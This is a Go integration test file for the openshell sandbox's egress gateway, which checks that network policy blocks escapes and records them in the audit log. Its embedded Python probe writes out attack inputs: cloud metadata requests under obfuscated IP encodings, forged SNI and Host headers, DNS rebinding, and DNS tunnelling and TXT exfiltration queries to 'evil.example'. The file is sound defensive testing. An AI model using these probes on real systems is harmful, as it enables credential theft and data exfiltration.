package integration

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"github.com/opencontainers/runtime-tools/generate"

	"github.com/openshell/openshell/runtime"
	"github.com/openshell/openshell/runtime/egress"
	"github.com/openshell/openshell/test/fakenet"
)

// egressEnv is a fake internet, a runtime configuration whose gateway
// dials out into it, and a Debian root with curl and python3.
type egressEnv struct {
	net    *fakenet.Net
	config string
	audit  string
	root   string
}

var zone = map[string]netip.Addr{
	"allowed.test":  fakenet.WebA,
	"limited.test":  fakenet.WebA,
	"reload.test":   fakenet.WebA,
	"denied.test":   fakenet.WebB,
	"rebind.test":   fakenet.Metadata,
	"private.test":  fakenet.Private,
	"hostself.test": fakenet.HostAddr,
	"rules.test":    fakenet.WebA,
	"pass.test":     fakenet.WebA,
}

func newEgressEnv(t *testing.T) *egressEnv {
	t.Helper()
	root := debianRoot(t)
	dir := t.TempDir()
	z := map[string]netip.Addr{}
	for k, v := range zone {
		z[k] = v
	}
	n, err := fakenet.Start(dir, z)
	if err != nil {
		t.Fatalf("fake internet: %v", err)
	}
	t.Cleanup(func() {
		if err := n.Close(); err != nil {
			t.Errorf("fake internet: %v", err)
		}
	})
	e := &egressEnv{net: n, config: filepath.Join(dir, "config.toml"), audit: filepath.Join(dir, "audit"), root: root}
	// The engine tests give their containers the policy inline.
	// The gateway verifies the fake internet's servers against its CA
	// where it terminates the sandbox's TLS.
	caFile := filepath.Join(dir, "fakenet-ca.pem")
	if err := os.WriteFile(caFile, n.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := fmt.Sprintf("allow_inline_policy = true\n[egress]\ndns_upstream = %q\nuplink_netns = %q\naudit_dir = %q\nupstream_ca_file = %q\n", n.DNS.String(), n.Netns, e.audit, caFile)
	if err := os.WriteFile(e.config, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	return e
}

// start starts `openshell run` of a python3 program under the policy
// file pf, with stdout on a pipe.
func (e *egressEnv) start(t *testing.T, ctx context.Context, pf, program string) (*exec.Cmd, io.Reader, *bytes.Buffer) {
	t.Helper()
	c := e.command(ctx, pf, program)
	out, err := c.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var errb bytes.Buffer
	c.Stderr = &errb
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c, out, &errb
}

// command is openshell run of a Python program on the Debian root.
func (e *egressEnv) command(ctx context.Context, pf, program string) *exec.Cmd {
	return e.runCommand(ctx, pf, "/usr/bin/python3", "-u", "-c", program)
}

// runCommand is openshell run of args on the Debian root under the
// policy file pf.
func (e *egressEnv) runCommand(ctx context.Context, pf string, args ...string) *exec.Cmd {
	return exec.CommandContext(ctx, openshellBin, append([]string{"run", "--config", e.config, "--runsc", runscBin, "--state-dir", stateDir,
		"--rootfs", e.root, "--policy", pf, "--"}, args...)...)
}

// startPaused starts program, which prints first and then waits for a
// line on its stdin: the test acts on the running sandbox (its gateway,
// the host) before it writes that line and reads the rest.
func (e *egressEnv) startPaused(t *testing.T, ctx context.Context, pf, program, first string) (*exec.Cmd, io.Writer, *bufio.Scanner, *bytes.Buffer) {
	t.Helper()
	c, stdin, lines, errb := e.startPiped(t, ctx, pf, program)
	if !lines.Scan() || lines.Text() != first {
		t.Fatalf("sandbox: first line %q, want %q\n%s", lines.Text(), first, errb.String())
	}
	return c, stdin, lines, errb
}

// startPiped starts program with its stdin and stdout on pipes.
func (e *egressEnv) startPiped(t *testing.T, ctx context.Context, pf, program string) (*exec.Cmd, io.Writer, *bufio.Scanner, *bytes.Buffer) {
	t.Helper()
	c := e.command(ctx, pf, program)
	stdin, err := c.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := c.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var errb bytes.Buffer
	c.Stderr = &errb
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c, stdin, bufio.NewScanner(stdout), &errb
}

// waitRest reads the rest of a started sandbox's output and waits for it
// to exit: an error fails the test.
func waitRest(t *testing.T, c *exec.Cmd, lines *bufio.Scanner, errb *bytes.Buffer) []string {
	t.Helper()
	rest := linesUntil(lines, "")
	if err := c.Wait(); err != nil {
		t.Fatalf("sandbox: %v\n%s", err, errb.String())
	}
	return rest
}

// run runs program to the end and returns its output.
func (e *egressEnv) run(t *testing.T, policyYAML, program string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	c, out, errb := e.start(t, ctx, writePolicy(t, policyYAML), program)
	data, _ := io.ReadAll(out)
	if err := c.Wait(); err != nil {
		t.Fatalf("sandbox: %v\n%s\n%s", err, data, errb.String())
	}
	assertNothingLeft(t, stateDir)
	return string(data)
}

func (e *egressEnv) events(t *testing.T) []egress.Event {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(e.audit, "*.jsonl"))
	var out []egress.Event
	for _, f := range files {
		if err := egress.ReadAuditLog(f, func(ev *egress.Event) error { out = append(out, *ev); return nil }); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

const egressPolicy = `version: "1.0"
name: egress-it
sandbox:
  filesystem:
    allowed_writes: [/tmp]
  process: {max_processes: 64}
  network:
    allowed_egress:
      - {host: allowed.test, ports: [80, 443]}
      - {host: allowed.test, port: 8080}
      - {host: "*.wild.test", port: 443}
      - {host: limited.test, port: 80, rate_limit: "2/minute", max_request_size_kb: 1, max_response_size_mb: 1}
      - {host: rebind.test, port: 80}
      - {host: private.test, port: 80}
      - {host: hostself.test, port: 80}
`

// probe is run inside the sandbox: one line per case, "name: result".
const probe = `
import socket, struct, subprocess, os, sys
def curl(name, *args):
    r = subprocess.run(["curl", "-sS", "-m", "5", "-k", *args], capture_output=True, text=True)
    body = (r.stdout + r.stderr).strip().replace("\n", " ")
    print(f"{name}: rc={r.returncode} {body}", flush=True)
def dns(name, qname, qtype):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in qname.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ("169.254.213.1", 53))
    try:
        data = s.recv(1500)
        print(f"{name}: rcode={data[3] & 15} answers={struct.unpack('>H', data[6:8])[0]}", flush=True)
    except OSError as e:
        print(f"{name}: {e}", flush=True)
np = ["--noproxy", "*"]
curl("proxy-http", "http://allowed.test/")
curl("proxy-https", "https://allowed.test/")
curl("transparent-http", *np, "http://allowed.test/")
curl("transparent-https", *np, "https://allowed.test/")
curl("transparent-host-port", *np, "-H", "Host: allowed.test:9999", "http://allowed.test/hostport")
curl("proxy-denied-name", "http://denied.test/")
curl("proxy-denied-https", "https://denied.test/")
curl("transparent-denied-name", *np, "http://denied.test/")
curl("raw-ip-http", *np, "http://198.51.100.20/")
curl("raw-ip-https", *np, "https://198.51.100.20/")
curl("proxy-raw-ip", "http://198.51.100.10/")
curl("forged-sni", *np, "--resolve", "allowed.test:443:198.51.100.20", "https://allowed.test/")
curl("forged-host", *np, "-H", "Host: allowed.test", "http://198.51.100.20/")
for enc in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"]:
    curl("metadata-proxy " + enc, f"http://{enc}/latest/meta-data/")
    curl("metadata-direct " + enc, *np, f"http://{enc}/latest/meta-data/")
curl("rebind", "http://rebind.test/")
curl("private-ip", *np, "http://10.77.0.5/")
curl("private-name", "http://private.test/")
curl("host-ip", *np, "http://192.0.2.1/")
curl("host-name", "http://hostself.test/")
curl("tcp-allowed-name", *np, "http://allowed.test:8080/")
curl("tcp-other-port", *np, "http://allowed.test:9090/")
curl("tcp-raw-ip", *np, "http://198.51.100.20:8080/")
dns("dns-allowed", "allowed.test", 1)
dns("dns-tunnel", "6f70656e7368656c6c2d736563726574.evil.example", 1)
dns("dns-txt", "exfil.evil.example", 16)
dns("dns-allowed-txt", "allowed.test", 16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(5):
    u.sendto(b"leak", ("198.51.100.10", 9999))
try:
    ic = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); ic.settimeout(2)
    ic.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"ping", ("198.51.100.10", 0))
    ic.recv(1500); print("icmp: reply", flush=True)
except OSError as e:
    print(f"icmp: {e}", flush=True)
curl("limited-1", "http://limited.test/")
curl("limited-big-request", "--data-binary", "x" * 4096, "http://limited.test/")
curl("limited-big-response", "http://limited.test/bytes?n=3000000", "-o", "/dev/null", "-w", "%{size_download}")
curl("limited-rate", "http://limited.test/")
curl("wild", "https://a.wild.test/")
curl("inference", "http://inference.local/v1/models")
`

func TestEgressGateway(t *testing.T) {
	e := newEgressEnv(t)
	out := e.run(t, egressPolicy, probe)
	got := map[string]string{}
	for _, line := range strings.Split(out, "\n") {
		if k, v, ok := strings.Cut(line, ": "); ok {
			got[k] = v
		}
	}
	reached := func(k string) bool { return strings.Contains(got[k], "hello from") }
	for _, k := range []string{"proxy-http", "proxy-https", "transparent-http", "transparent-https", "transparent-host-port", "limited-1", "tcp-allowed-name"} {
		if !reached(k) {
			t.Errorf("%s: allowed destination not reached: %q", k, got[k])
		}
	}
	if !strings.Contains(got["proxy-https"], "hello from https 198.51.100.10") || !strings.Contains(got["transparent-https"], "hello from https 198.51.100.10") {
		t.Errorf("HTTPS went to the wrong server: %q / %q", got["proxy-https"], got["transparent-https"])
	}
	denied := []string{
		"proxy-denied-name", "proxy-denied-https", "transparent-denied-name", "raw-ip-http", "raw-ip-https", "proxy-raw-ip",
		"forged-sni", "forged-host", "rebind", "private-ip", "private-name", "host-ip", "host-name", "tcp-other-port", "tcp-raw-ip",
		"limited-big-request", "limited-rate", "wild", "inference",
	}
	for _, enc := range []string{"169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"} {
		denied = append(denied, "metadata-proxy "+enc, "metadata-direct "+enc)
	}
	for _, k := range denied {
		if v, ok := got[k]; !ok || strings.Contains(v, "hello from") {
			t.Errorf("%s: reached, or did not run: %q", k, v)
		}
	}
	for _, k := range []string{"proxy-denied-name", "proxy-raw-ip", "forged-host", "limited-big-request"} {
		if !strings.Contains(got[k], `"error":"denied by the openshell egress policy"`) {
			t.Errorf("%s: want a 403 with a JSON body, got %q", k, got[k])
		}
	}
	if !strings.Contains(got["limited-rate"], "rate_limit") {
		t.Errorf("limited-rate: %q", got["limited-rate"])
	}
	if strings.Contains(got["limited-big-response"], "3000000") {
		t.Errorf("max_response_size_mb did not stop a 3 MB response: %q", got["limited-big-response"])
	}
	if !strings.Contains(got["transparent-denied-name"], "rc=6") {
		t.Errorf("a disallowed name resolved: %q", got["transparent-denied-name"])
	}
	if got["dns-allowed"] != "rcode=0 answers=1" || got["dns-tunnel"] != "rcode=3 answers=0" || got["dns-txt"] != "rcode=3 answers=0" || got["dns-allowed-txt"] != "rcode=0 answers=0" {
		t.Errorf("dns: allowed %q tunnel %q txt %q allowed-txt %q", got["dns-allowed"], got["dns-tunnel"], got["dns-txt"], got["dns-allowed-txt"])
	}
	if strings.Contains(got["icmp"], "reply") {
		t.Errorf("ICMP got a reply")
	}
	for _, q := range e.net.Queries() {
		if !strings.HasSuffix(strings.Fields(q)[0], ".test") {
			t.Errorf("the upstream DNS server saw %q", q)
		}
		if strings.Contains(q, "evil") || strings.Contains(q, "TXT") {
			t.Errorf("the upstream DNS server saw a tunnelling query: %q", q)
		}
	}
	if n := e.net.UDPReceived(); n != 0 {
		t.Errorf("%d UDP datagrams reached the internet", n)
	}

	// Every denial is in the audit log, and `openshell audit
	// --violations-only` lists exactly the denials.
	events := e.events(t)
	// A captured request's line has the port it went to, whatever its
	// Host header says.
	hostPort := 0
	for _, ev := range events {
		if ev.Path == "/hostport" {
			hostPort++
			if ev.Port != 80 {
				t.Errorf("a captured port-80 request whose Host says 9999 is audited on port %d", ev.Port)
			}
		}
	}
	if hostPort != 1 {
		t.Errorf("%d audit lines for the captured request whose Host says 9999, want 1", hostPort)
	}
	// A denial repeated within a second is folded into a summary line
	// with its count: the lines stand for at least one event per case.
	var violations, denials int
	for _, ev := range events {
		if ev.Decision != egress.Allow {
			violations++
			denials += max(ev.Count, 1)
		}
		if ev.Policy != "egress-it" || len(ev.PolicyHash) != 64 || ev.Sandbox == "" {
			t.Errorf("audit event without its policy or sandbox: %+v", ev)
		}
	}
	hosts := map[string]bool{}
	for _, ev := range events {
		if ev.Decision == egress.Deny {
			hosts[ev.Host] = true
		}
	}
	tcpDenials := 0
	for _, ev := range events {
		if ev.Kind == "tcp" && ev.Decision == egress.Deny {
			tcpDenials++
		}
	}
	var udpDenied, icmpDenied bool
	for _, ev := range events {
		udpDenied = udpDenied || (ev.Kind == "udp" && ev.Decision == egress.Deny && ev.IP == "198.51.100.10" && ev.Port == 9999)
		icmpDenied = icmpDenied || (ev.Kind == "icmp" && ev.Decision == egress.Deny && ev.IP == "198.51.100.10")
	}
	if !udpDenied || !icmpDenied {
		t.Errorf("UDP to 198.51.100.10:9999 audited: %v; ICMP to 198.51.100.10 audited: %v", udpDenied, icmpDenied)
	}
	if tcpDenials != 2 {
		t.Errorf("%d denials of plain TCP in the audit log, want 2 (another port of an allowed name, a raw address)", tcpDenials)
	}
	for _, h := range []string{"denied.test", "198.51.100.20", "allowed.test", "169.254.169.254", "fd00:ec2::254", "10.77.0.5", "hostself.test", "rebind.test", "limited.test", "inference.local"} {
		if !hosts[h] {
			t.Errorf("no denial for %s in the audit log", h)
		}
	}
	c := exec.Command(openshellBin, "audit", "--dir", e.audit, "--violations-only", "--json")
	data, err := c.Output()
	if err != nil {
		t.Fatalf("openshell audit: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) != violations || denials < len(denied) {
		t.Errorf("openshell audit --violations-only printed %d lines; the log has %d violation lines standing for %d denials (%d cases)", len(lines), violations, denials, len(denied))
	}
	for _, l := range lines {
		var ev egress.Event
		if err := json.Unmarshal([]byte(l), &ev); err != nil || ev.Decision == egress.Allow {
			t.Errorf("not a violation: %s", l)
		}
	}
	if t.Failed() {
		t.Logf("sandbox output:\n%s", out)
	}
}

// reloadProbe asks for reload.test every 100 ms and prints each change.
const reloadProbe = `
import subprocess, time
last = None
end = time.time() + 40
while time.time() < end:
    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "2", "http://reload.test/"], capture_output=True, text=True)
    state = "allowed" if r.stdout == "200" else "denied"
    if state != last:
        print(state, flush=True); last = state
    time.sleep(0.1)
`

func TestEgressHotReload(t *testing.T) {
	e := newEgressEnv(t)
	pf := writePolicy(t, egressPolicy)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	c, out, errb := e.start(t, ctx, pf, reloadProbe)
	defer func() {
		// openshell run passes SIGTERM to the sandbox and cleans up.
		_ = c.Process.Signal(syscall.SIGTERM)
		_ = c.Wait()
		assertNothingLeft(t, stateDir)
	}()
	lines := bufio.NewScanner(out)
	next := func() string {
		if !lines.Scan() {
			t.Fatalf("sandbox ended: %s", errb.String())
		}
		return lines.Text()
	}
	if s := next(); s != "denied" {
		t.Fatalf("before reload: %s", s)
	}
	pid := sandboxPid(t, "egress-it")
	start := time.Now()
	added := strings.Replace(egressPolicy, "      - {host: allowed.test", "      - {host: reload.test, port: 80}\n      - {host: allowed.test", 1)
	if err := os.WriteFile(pf, []byte(added), 0o644); err != nil {
		t.Fatal(err)
	}
	if s := next(); s != "allowed" {
		t.Fatalf("after adding the host: %s", s)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("adding a host took %s, want ≤ 2s", d)
	} else {
		t.Logf("host added in %s", d.Round(time.Millisecond))
	}
	start = time.Now()
	if err := os.WriteFile(pf, []byte(egressPolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	if s := next(); s != "denied" {
		t.Fatalf("after removing the host: %s", s)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("removing a host took %s, want ≤ 2s", d)
	} else {
		t.Logf("host removed in %s", d.Round(time.Millisecond))
	}
	// A change outside the network section is refused; the rules stay.
	fsChange := strings.Replace(egressPolicy, "allowed_writes: [/tmp]", "allowed_writes: [/tmp, /var]", 1)
	if err := os.WriteFile(pf, []byte(fsChange), 0o644); err != nil {
		t.Fatal(err)
	}
	r := exec.Command(openshellBin, "policy", "reload", "--state-dir", stateDir, "--config", e.config, pid)
	msg, err := r.CombinedOutput()
	if err == nil || !strings.Contains(string(msg), "only network rules can change in a running sandbox") {
		t.Errorf("openshell policy reload of a filesystem change: %v: %s", err, msg)
	}
	if sandboxPid(t, "egress-it") != pid {
		t.Errorf("the sandbox was restarted")
	}
}

// sandboxPid finds the one running sandbox of openshell run whose policy
// is name, and returns its id.
func sandboxPid(t *testing.T, name string) string {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		entries, _ := os.ReadDir(stateDir)
		for _, en := range entries {
			if _, st, err := runtime.Open(stateDir, en.Name()); err == nil && st != nil && st.Policy.Name == name && st.Gateway != nil {
				return st.ID
			}
		}
	}
	t.Fatalf("no running sandbox with policy %s", name)
	return ""
}

// killProbe reaches allowed.test, then keeps trying after the test kills
// the gateway.
const killProbe = `
import subprocess, time, sys
def get(*args):
    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "2", *args], capture_output=True, text=True)
    return r.stdout
print("before", get("http://allowed.test/"), flush=True)
sys.stdin.readline()
print("after-proxy", get("http://allowed.test/"), flush=True)
print("after-direct", get("--noproxy", "*", "http://198.51.100.10/"), flush=True)
print("after-https", get("--noproxy", "*", "-k", "--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/"), flush=True)
`

func TestEgressGatewayKilledFailsClosed(t *testing.T) {
	e := newEgressEnv(t)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	c, stdin, lines, errb := e.startPaused(t, ctx, writePolicy(t, egressPolicy), killProbe, "before 200")
	id := sandboxPid(t, "egress-it")
	_, st, err := runtime.Open(stateDir, id)
	if err != nil || st.Gateway == nil {
		t.Fatalf("state: %v", err)
	}
	if err := syscall.Kill(st.Gateway.Pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(5 * time.Second); st.Gateway.Alive(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the gateway outlived SIGKILL")
		}
	}
	fmt.Fprintln(stdin)
	rest := waitRest(t, c, lines, errb)
	if len(rest) != 3 {
		t.Fatalf("after the kill: %q\n%s", rest, errb.String())
	}
	for _, l := range rest {
		if strings.HasSuffix(l, " 200") {
			t.Errorf("reached the internet with the gateway dead: %s", l)
		}
	}
	assertNothingLeft(t, stateDir)
}

// TestEgressThroughOpenshellRuntime: an engine's container (here a bundle
// run by openshell-runtime, as containerd's shim runs it) gets the same
// gateway, from an inline policy, and delete ends the gateway and removes
// its namespaces.
func TestEgressThroughOpenshellRuntime(t *testing.T) {
	e := newEgressEnv(t)
	bundle := t.TempDir()
	g := inlineSpec(t, e.root, egressPolicy, "/usr/bin/python3", "-c", `
import urllib.request, urllib.error
for url in ["http://allowed.test/", "http://denied.test/"]:
    try:
        print(url, urllib.request.urlopen(url, timeout=5).read().decode().strip())
    except urllib.error.HTTPError as err:
        print(url, err.code, err.read().decode().strip())
`)
	writeBundleSpec(t, bundle, g.Config)
	id := "egress-" + strconv.Itoa(os.Getpid())
	data, err := runtimeRun(t, e.config, bundle, id)
	if err != nil {
		t.Fatalf("openshell-runtime run: %v\n%s", err, data)
	}
	for _, want := range []string{"http://allowed.test/ hello from http 198.51.100.10", `http://denied.test/ 403 {"error":"denied by the openshell egress policy"`} {
		if !strings.Contains(string(data), want) {
			t.Errorf("missing %q in:\n%s", want, data)
		}
	}
	if p := processesMentioning(filepath.Join(runtimeRoot(), "openshell", id)); len(p) > 0 {
		t.Errorf("processes of the container left: %v", p)
	}
	assertRuntimeClean(t)
	var denials int
	for _, ev := range e.events(t) {
		if ev.Sandbox == id && ev.Decision == egress.Deny && ev.Host == "denied.test" {
			denials++
		}
	}
	if denials == 0 {
		t.Errorf("no denial for denied.test from sandbox %s in the audit log", id)
	}
}

// inlineSpec is a spec as an engine hands openshell-runtime: args on
// root, not on a terminal, under the inline policy policyYAML.
func inlineSpec(t *testing.T, root, policyYAML string, args ...string) *generate.Generator {
	t.Helper()
	g, err := generate.New("linux")
	if err != nil {
		t.Fatal(err)
	}
	g.SetRootPath(root)
	g.SetProcessArgs(args)
	g.SetProcessTerminal(false)
	g.AddAnnotation("io.openshell.policy.inline", policyYAML)
	return &g
}

// runtimeRun runs bundle as container id with openshell-runtime under
// config, deletes the container, and returns what it wrote (stdout and
// stderr).
func runtimeRun(t *testing.T, config, bundle, id string) ([]byte, error) {
	t.Helper()
	outf := filepath.Join(t.TempDir(), "stdout")
	out, err := os.Create(outf)
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	c := exec.Command(runtimeBin, "--root", runtimeRoot(), "--config", config, "run", "--bundle", bundle, id)
	c.Stdout, c.Stderr = out, out
	c.Env = append(os.Environ(), "OPENSHELL_RUNSC="+runscBin)
	runErr := c.Run()
	_ = exec.Command(runtimeBin, "--root", runtimeRoot(), "delete", "--force", id).Run()
	data, _ := os.ReadFile(outf)
	return data, runErr
}

// TestEgressFromEngineNamespace: when the engine gave the container a
// network namespace and a resolv.conf (a pod's CNI namespace, Docker's
// bridge), the gateway dials out from that namespace and asks that
// resolver, while the sandbox itself stays behind the gateway. Here the
// runtime configuration names neither: only the spec does.
func TestEgressFromEngineNamespace(t *testing.T) {
	e := newEgressEnv(t)
	// The engine's resolv.conf is the pod author's (dnsConfig, --dns): it
	// names a resolver of the tenant's, here the fake internet's.
	resolv := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(resolv, []byte("nameserver "+fakenet.DNSAddr.String()+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(configTOML string) string {
		cfg := filepath.Join(t.TempDir(), "config.toml")
		if err := os.WriteFile(cfg, []byte(configTOML), 0o644); err != nil {
			t.Fatal(err)
		}
		bundle := t.TempDir()
		g := inlineSpec(t, e.root, egressPolicy, "/usr/bin/curl", "-sS", "-m", "5", "http://allowed.test/")
		if err := g.AddOrReplaceLinuxNamespace("network", e.net.Netns); err != nil {
			t.Fatal(err)
		}
		g.AddMount(specs.Mount{Destination: "/etc/resolv.conf", Type: "bind", Source: resolv, Options: []string{"rbind", "ro"}})
		writeBundleSpec(t, bundle, g.Config)
		id := "egress-engine-" + strconv.Itoa(os.Getpid())
		out, _ := runtimeRun(t, cfg, bundle, id)
		assertRuntimeClean(t)
		return string(out)
	}
	asked := func() bool {
		for _, q := range e.net.Queries() {
			if q == "allowed.test TypeA" {
				return true
			}
		}
		return false
	}
	// Without dns_upstream the gateway asks the node's resolver, never the
	// tenant's: the fake internet's resolver is not asked (and the node's
	// is not reachable from the fake uplink, so the name does not resolve).
	out := run(fmt.Sprintf("allow_inline_policy = true\n[egress]\naudit_dir = %q\n", e.audit))
	if asked() || strings.Contains(out, "hello from") {
		t.Fatalf("the gateway asked the resolver the container's resolv.conf names:\n%s\nqueries %v", out, e.net.Queries())
	}
	// The operator's dns_upstream is asked, from the engine's namespace.
	out = run(fmt.Sprintf("allow_inline_policy = true\n[egress]\naudit_dir = %q\ndns_upstream = %q\n", e.audit, e.net.DNS.String()))
	if !strings.Contains(out, "hello from http 198.51.100.10 host=allowed.test") || !asked() {
		t.Fatalf("with dns_upstream: %s\nqueries %v", out, e.net.Queries())
	}
}

// TestEgressThroughCtr: a container run by containerd through
// io.openshell.v1, with the policy in an annotation and the runtime
// configuration given as the runtime's options (ctr
// --runtime-config-path, CRI's ConfigPath), reaches what its rules allow
// through its own gateway, and nothing else; nothing is left after.
func TestEgressThroughCtr(t *testing.T) {
	e := newEgressEnv(t)
	c := startContainerd(t)
	args := []string{"run", "--rm", "--runtime", "io.openshell.v1", "--runtime-config-path", e.config,
		"--annotation", "io.openshell.policy.inline=" + egressPolicy, testImage, "egress-ctr",
		// busybox's static wget crashes resolving names under gVisor; nc
		// speaks to the proxy the sandbox is given.
		"/bin/sh", "-c", `for h in allowed.test denied.test; do printf "GET http://$h/ HTTP/1.0\r\nHost: $h\r\n\r\n" | nc -w 5 169.254.213.1 3128; done`}
	r := c.ctrRun(t, args...)
	if r.code != 0 {
		t.Fatalf("ctr run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "hello from http 198.51.100.10 host=allowed.test") || !strings.Contains(r.stdout, "403") {
		t.Errorf("output (exit %d):\n%q\n%q", r.code, r.stdout, r.stderr)
	}
	var denied bool
	for _, ev := range e.events(t) {
		denied = denied || (ev.Host == "denied.test" && ev.Decision == egress.Deny)
	}
	if !denied {
		t.Errorf("no denial of denied.test in the audit log")
	}
	c.assertClean(t)
	if p := processesMentioning("egress-ctr/gateway.json"); len(p) > 0 {
		t.Errorf("gateway left: %v", p)
	}
}
